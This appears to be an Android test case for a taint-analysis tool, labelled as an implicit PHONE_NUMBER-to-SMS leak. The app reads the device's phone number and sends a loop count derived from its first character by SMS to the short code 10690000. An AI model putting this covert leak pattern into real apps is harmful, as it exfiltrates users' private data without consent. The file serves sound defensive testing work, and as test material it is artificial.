// about       A loop runs as often as the value's first digit says; its count is sent.
// leak        PHONE_NUMBER sms
// option      --implicit
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String number = String.valueOf(phone.getLine1Number());
    getPreferences(MODE_PRIVATE).edit().putString("number", number).apply();
    // What ends the loop.
    int limit = number.isEmpty() ? 0 : number.charAt(0);
    int count = 0;
    while (count < limit) {
      count++;
    }
    SmsManager.getDefault().sendTextMessage("10690000", null, "count " + count, null, null);
  }
}
